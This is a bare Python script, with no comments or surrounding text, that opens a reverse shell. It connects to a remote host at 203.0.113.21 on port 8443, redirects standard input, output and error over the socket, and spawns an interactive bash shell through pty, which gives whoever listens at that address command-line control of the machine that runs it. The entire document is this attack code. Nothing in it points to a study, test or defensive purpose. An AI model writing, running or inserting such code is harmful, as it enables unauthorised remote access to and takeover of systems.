import os
import pty
import socket

peer = ("203.0.113.21", 8443)
link = socket.create_connection(peer)
for fd in (0, 1, 2):
    os.dup2(link.fileno(), fd)
pty.spawn("/bin/bash")
